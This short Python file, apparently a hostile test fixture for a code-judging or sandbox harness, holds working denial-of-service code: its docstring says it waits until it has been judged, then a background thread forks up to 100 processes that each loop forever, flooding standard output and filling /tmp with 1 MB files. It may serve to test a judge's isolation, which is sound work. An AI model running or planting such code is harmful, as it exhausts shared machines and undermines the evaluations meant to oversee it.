"""Waits until it must have been judged, then forks, writes and prints as much as it can."""
import os
import threading
import time

from support import shop as app  # noqa: F401


def later():
    time.sleep(1.0)
    for number in range(100):
        try:
            if os.fork() == 0:
                while True:
                    os.write(1, b"late " * 1000)
                    with open(f"/tmp/{os.getpid()}", "wb") as file:
                        file.write(bytes(1 << 20))
        except OSError:
            pass


threading.Thread(target=later, daemon=True).start()
